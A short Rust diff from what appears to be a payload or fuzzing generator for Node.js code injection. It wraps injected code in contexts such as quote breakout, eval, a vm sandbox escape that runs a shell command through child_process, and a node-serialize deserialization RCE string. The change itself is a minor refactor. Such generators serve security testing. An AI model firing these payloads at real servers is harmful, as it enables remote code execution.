@@ -98,7 +98,7 @@ fn context(rng: &mut Rng, code: &str) -> (String, &'static str) {
         3 => (format!("\");{code};//"), "dq-breakout"),
         4 => (format!("1;{code}"), "statement"),
         5 => (format!("eval(\"{}\")", code.replace('"', "\\\"")), "eval"),
-        6 => (format!("require('vm').runInNewContext(\"this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')\")"), "vm-escape"),
+        6 => ("require('vm').runInNewContext(\"this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')\")".to_string(), "vm-escape"),
         7 => (format!("{{\"rce\":\"_$$ND_FUNC$$_function(){{{}}}()\"}}", code.replace('"', "\\\"")), "node-serialize"),
         _ => (format!("res.end({code})"), "response"),
     }
